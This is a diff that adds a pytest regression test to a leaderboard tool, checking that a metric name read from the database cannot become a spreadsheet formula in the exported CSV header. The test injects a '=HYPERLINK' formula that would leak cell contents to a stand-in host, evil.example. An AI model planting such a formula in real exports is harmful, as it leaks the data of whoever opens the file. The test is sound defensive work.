@@ -110,3 +110,20 @@ def test_a_nul_in_the_protocol_name_gives_no_traceback(tmp_path, capsys):
     assert main(["leaderboard", "--db", str(db), "--out", str(tmp_path / "o")]) == 0
     assert "Traceback" not in capsys.readouterr().err
     assert all("\x00" not in t for t in _outputs(tmp_path / "o").values())
+
+
+def test_a_metric_name_from_the_database_is_no_formula_in_the_csv_header(tmp_path):
+    """Review 2026-12-04 (afternoon): the board CSV neutralised formulas in its cells but wrote its
+    header as found, so a metric name ``=HYPERLINK(…)`` edited into a result document became a
+    formula in the header row."""
+    db = tmp_path / "lb.db"
+    leaderboard.record(db, _result(1), "model")
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+    with sqlite3.connect(db) as con:
+        doc = json.loads(con.execute("SELECT document FROM results").fetchone()[0])
+        doc["metrics"][formula] = doc["metrics"]["spearman"]
+        con.execute("UPDATE results SET document = ?", (json.dumps(doc),))
+    con.close()
+    assert main(["leaderboard", "--db", str(db), "--out", str(tmp_path / "out")]) == 0
+    header = next(csv.reader(io.StringIO((tmp_path / "out" / "aadb.csv").read_text(encoding="utf-8"))))
+    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in header), header
